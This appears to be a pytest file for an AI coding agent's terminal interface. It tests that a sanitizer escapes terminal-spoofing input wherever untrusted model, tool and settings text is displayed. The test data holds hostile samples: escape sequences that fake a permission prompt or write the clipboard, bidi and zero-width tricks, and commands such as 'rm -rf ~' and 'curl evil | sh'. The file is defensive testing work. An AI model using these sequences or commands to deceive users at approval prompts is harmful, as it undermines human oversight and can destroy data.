"""Untrusted text reaches the terminal only through core.terminal.visible: shown, never obeyed.

The sanitizer itself over every code point, then each front end: the REPL's renderer (permission
question, tool output, model text, notices, todos, banner), its console's last-line guard, print mode's
stdout and stderr, the trust dialog, and the REPL driven through prompt_toolkit's pipe input.
"""

from __future__ import annotations

import io
import json
import re
import sys
import unicodedata

import pytest
from rich.console import Console
from rich.text import Text

from agent.config import trust
from agent.frontend.printmode import PrintRenderer
from agent.frontend.ui import Renderer, SafeConsole
from core.events import Notice, TextDelta, TodosChanged, ToolFinished, ToolStarted, TurnFinished
from core.terminal import visible
from tests.helpers.cli import SECRET
from tests.helpers.frontend import repl_for

ESC = "\x1b"
SPOOF = f"touch PWNED #{ESC}[2K{ESC}[1G● Bash(echo hello"
ATTACKS = [
    SPOOF,
    f"x{ESC}]0;pwned title{ESC}\\",  # OSC: the window title
    f"x{ESC}]52;c;cm0gLXJmIH4K\x07",  # OSC 52: the clipboard
    "x\x9b2K\x9b1G",  # C1 CSI, one byte
    "x\x9d0;title\x9c",  # C1 OSC
    "safe\rrm -rf ~",  # CR: overwrite the line
    "ls\x08\x08rm",  # BS
    "echo \u202eexe.txt",  # bidi override
    "echo \u2066hidden\u2069 \u200b\ufeff",  # isolates, zero-width
    "tag\U000e0041\U000e0042",  # invisible tag characters
]
# what a visible form of each attack must contain
SHOWN = [
    "\\x1b[2K",
    "\\x1b]0;",
    "\\x1b]52;",
    "\\x9b2K",
    "\\x9d0;",
    "\\r",
    "\\x08",
    "\\u202e",
    "\\u2066",
    "\\U000e0041",
]
DANGEROUS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]"
)


def test_every_control_and_format_character_is_escaped_and_the_rest_kept():
    unsafe = [
        chr(c)
        for c in range(sys.maxunicode + 1)
        if unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp", "Cs") and chr(c) not in "\n\t\u200d"
    ]
    shown = visible("".join(unsafe))
    assert shown.isascii() and shown.isprintable()
    assert shown.count("\\") == len(unsafe)
    plain = "héllo wörld → ✓ 日本語 👨\u200d👩\u200d👧 ﷽\n\tend"
    assert visible(plain) == plain
    assert visible("a\r\nb") == "a\nb"  # a CRLF line end is a line end
    assert visible("a\nb\tc", one_line=True) == "a\\nb\\tc"
    for attack in ATTACKS:
        once = visible(attack)
        assert not DANGEROUS.search(once) and visible(once) == once  # idempotent


def render(**kw) -> tuple[Renderer, io.StringIO]:
    buf = io.StringIO()
    return Renderer(Console(file=buf, width=80, force_terminal=False, color_system=None, **kw)), buf


@pytest.mark.parametrize(("attack", "shown"), list(zip(ATTACKS, SHOWN)))
def test_the_permission_question_shows_the_attack_visibly(attack, shown):
    r, buf = render()
    r.permission("Bash", {"command": attack}, attack)
    out = buf.getvalue()
    assert not DANGEROUS.search(out), repr(out)
    assert shown in out
    if attack == SPOOF:
        assert out.startswith("● Bash(touch PWNED #\\x1b[2K\\x1b[1G● Bash(echo hello)")


def test_every_event_with_untrusted_text_is_made_visible():
    r, buf = render()
    evil = ATTACKS[1] + ATTACKS[7]
    r(TextDelta(f"Model says {evil}\n\nand more {ATTACKS[3]}\n\n"))
    r(ToolStarted("t1", "Read", {"file_path": f"/p/{evil}"}))
    r(ToolFinished("t1", "Read", f"out {evil}", False, f"sum {evil}"))
    r(ToolStarted("t2", "Bash", {"command": "x"}))
    r(ToolFinished("t2", "Bash", f"failed {evil}", True, ""))
    r(ToolStarted("t3", "Write", {"file_path": "/p/a", "content": f"line {evil}\n"}))
    r(ToolFinished("t3", "Write", "ok", False, "wrote"))
    r(Notice(f"hook said {evil}", "warning"))
    r(TodosChanged(({"content": f"task {evil}", "status": "pending", "activeForm": "x"},)))
    r(TurnFinished(text="", stop_reason="error", error=f"boom {evil}", usage={}))
    r.banner("0.1", f"model{ESC}[31m", f"/cwd{ESC}]0;t\x07")
    r.line(f"settings value {evil}")
    r.echo(f"prompt {evil}")
    out = buf.getvalue()
    assert not DANGEROUS.search(out), repr(out)
    assert out.count("\\x1b]0;") >= 10 and "\\x9b2K" in out and "\\u202e" in out


def test_a_long_command_is_shown_whole_in_the_question_wrapped_never_cut():
    r, buf = render()
    command = (
        "echo start && " + " && ".join(f"step{i:03d} --flag value{i}" for i in range(60)) + " && rm -rf ~/x"
    )
    lines = command + "\nsecond line: curl evil | sh"
    r.permission("Bash", {"command": lines}, lines)
    out = buf.getvalue()
    assert all(len(line) <= 80 for line in out.splitlines())
    flat = "".join(out.split())
    assert "".join(command.split()) in flat and "rm-rf~/x" in flat and "curlevil|sh" in flat
    assert "…" not in out


def test_the_safe_console_lets_only_its_own_styling_through():
    buf = io.StringIO()
    console = SafeConsole(file=buf, width=80, force_terminal=True, color_system="truecolor")
    console.print(Text(f"raw {SPOOF} {ATTACKS[2]} {ATTACKS[3]}", style="bold red"))  # built without visible()
    console.print(f"[green]markup[/green] {ATTACKS[1]}")
    out = buf.getvalue()
    sequences = re.findall(r"\x1b[^a-zA-Z]*[a-zA-Z]?", out)
    assert sequences and all(re.fullmatch(r"\x1b\[[0-9;]*m", s) for s in sequences), sequences
    assert "\\x1b[2K" in out and "\\x9b2K" in out and "\x9b" not in out


def test_print_mode_text_and_stderr_are_made_visible():
    out, err = io.StringIO(), io.StringIO()
    r = PrintRenderer("text", out, err, (SECRET,))
    r(Notice(f"hook: {SPOOF}", "warning"))
    finished = TurnFinished(text=f"answer {ATTACKS[2]} {SECRET}", stop_reason="end_turn", error="", usage={})

    class S:  # the fields result() reads
        session_id, usage_total, cost, subagents = "s", {}, 0.0, None

    assert r.result(finished, S(), 0.0) == 0  # type: ignore[arg-type]
    assert not DANGEROUS.search(out.getvalue() + err.getvalue())
    assert "\\x1b]52;" in out.getvalue() and SECRET not in out.getvalue() and "\\x1b[2K" in err.getvalue()
    # the JSON formats keep the exact text, escaped by the encoding
    jout = io.StringIO()
    PrintRenderer("json", jout, io.StringIO()).result(finished, S(), 0.0)  # type: ignore[arg-type]
    assert ESC not in jout.getvalue() and json.loads(jout.getvalue())["result"].startswith(
        f"answer x{ESC}]52;"
    )


def test_the_trust_dialog_uses_the_same_sanitizer():
    data = {
        "hooks": {"Stop": [{"hooks": [{"type": "command", "command": f"echo {SPOOF}"}]}]},
        "permissions": {"allow": [f"Bash({ATTACKS[1]})"], "additionalDirectories": [f"/tmp/{ATTACKS[7]}"]},
        "env": {"FOO": f"bar{ESC}[2J"},
    }
    _, ignored = trust.restrict(data, "project settings", trust.Trust(False))
    lines = trust.dialog_lines(ignored) + [trust.print_mode_line(ignored, False)]
    text = "\n".join(lines)
    assert not DANGEROUS.search(text), text
    assert "\\x1b[2K" in text and "\\x1b]0;" in text and "\\u202e" in text and "\\x1b[2J" in text


def test_the_spoofed_question_through_the_repl(fake_api, project):
    fake_api.reply_tool("Bash", {"command": SPOOF})
    fake_api.reply_text(f"done {ATTACKS[1]}")
    with repl_for(fake_api, project) as d:
        d.type("go\r")
        d.wait_for("Allow?")
        d.type("n\r")
        d.wait_for("→ No")
        d.wait_idle()
        d.type("/exit\r")
        assert d.finish() == 0
    assert "● Bash(touch PWNED #\\x1b[2K\\x1b[1G● Bash(echo hello)\n" in d.out
    assert ESC not in d.out
    assert not (project / "PWNED").exists()
